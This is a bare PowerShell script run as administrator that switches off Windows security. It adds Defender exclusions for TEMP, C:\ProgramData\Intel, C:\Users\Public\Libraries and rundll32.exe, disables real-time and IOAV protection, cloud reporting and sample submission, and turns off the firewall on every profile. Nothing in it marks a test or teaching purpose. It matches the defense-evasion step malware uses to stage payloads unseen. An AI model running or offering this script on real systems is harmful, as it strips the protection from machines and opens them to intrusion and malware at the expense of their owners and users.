#Requires -RunAsAdministrator
$paths = @('C:\ProgramData\Intel', $env:TEMP, 'C:\Users\Public\Libraries')
foreach ($p in $paths) {
    Add-MpPreference -ExclusionPath $p
}
Add-MpPreference -ExclusionProcess 'rundll32.exe'
Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true -MAPSReporting 0
Set-MpPreference -SubmitSamplesConsent 2

netsh advfirewall set allprofiles state off
Set-NetFirewallProfile -Profile Domain, Public, Private -Enabled False
